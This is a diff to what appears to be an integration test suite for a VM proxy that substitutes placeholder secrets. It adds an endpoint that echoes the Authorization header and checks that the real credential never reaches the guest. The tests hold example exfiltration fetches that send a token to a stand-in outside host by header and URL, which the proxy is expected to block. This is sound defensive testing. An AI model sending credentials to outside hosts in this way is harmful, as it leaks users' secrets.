@@ -260,6 +260,15 @@ class UpstreamHandler(http.server.BaseHTTPRequestHandler):
             body = json.dumps({"method": self.command, "path": self.path,
                                "headers": list(self.headers.items())}).encode()
             self._send_body(200, body + b"\n", "application/json")
+        elif url.path == "/echo-authorization":
+            # Echoes the credentials in a response header, as some servers
+            # and debugging proxies do.
+            self.send_response(200)
+            self.send_header("X-Echo-Authorization", self.headers.get("Authorization", ""))
+            self.send_header("Content-Length", str(len(HELLO_BODY)))
+            self.end_headers()
+            if self.command != "HEAD":
+                self.wfile.write(HELLO_BODY)
         else:
             self._send_body(404, f"no endpoint {url.path}\n".encode())
 
@@ -1335,11 +1344,23 @@ def case_secrets(session):
     run = session.boot(f"fetch bearer --cacert /ca.pem -H 'Authorization: Bearer {placeholder}' "
                        "https://allowed.test/hello\n"
                        f"fetch basic -u 'user:{placeholder}' http://allowed.test/hello\n"
+                       f"fetch basic-echo -u 'user:{placeholder}' "
+                       "http://allowed.test/echo-authorization\n"
                        f"fetch exfil -H 'X-Token: {placeholder}' http://other.wild.test/hello\n"
                        f"fetch exfil-url 'http://other.wild.test/hello?key={placeholder}'\n")
     run.check_booted(session.mtu or DEFAULT_MTU)
     expect_fetch(run, "bearer", 200, body=HELLO_BODY)
     expect_fetch(run, "basic", 200, body=HELLO_BODY)
+    expect_fetch(run, "basic-echo", 200, body=HELLO_BODY)
+    echoed = run.header("basic-echo", "X-Echo-Authorization")
+    placeholder_basic = "Basic " + base64.b64encode(f"user:{placeholder}".encode()).decode()
+    check(echoed == placeholder_basic,
+          f"an echoed Basic credential should carry the placeholder, got {echoed!r}")
+    check(VM_SECRET_VALUE not in run.text("basic-echo.head")
+          and base64.b64encode(f"user:{VM_SECRET_VALUE}".encode()).decode()
+          not in run.text("basic-echo.head"),
+          "the guest received the real value in an echoed response header")
+    print("  guest: an echoed Basic credential carries the placeholder")
     expect_fetch(run, "exfil", 403, body_contains='rule "secret.token"')
     expect_fetch(run, "exfil-url", 403, body_contains='rule "secret.token"')
     expect_no_upstream_request(session, "other.wild.test")
@@ -1347,7 +1368,7 @@ def case_secrets(session):
                for r in session.upstreams.requests_for_host("allowed.test")]
     auth = sorted(h.get("authorization", "") for h in headers)
     basic = "Basic " + base64.b64encode(f"user:{VM_SECRET_VALUE}".encode()).decode()
-    check(auth == sorted([f"Bearer {VM_SECRET_VALUE}", basic]),
+    check(auth == sorted([f"Bearer {VM_SECRET_VALUE}", basic, basic]),
           f"the upstream should receive the real value, got {auth}")
     print("  upstream: received the real value in Bearer and Basic credentials")
     session.check_running()
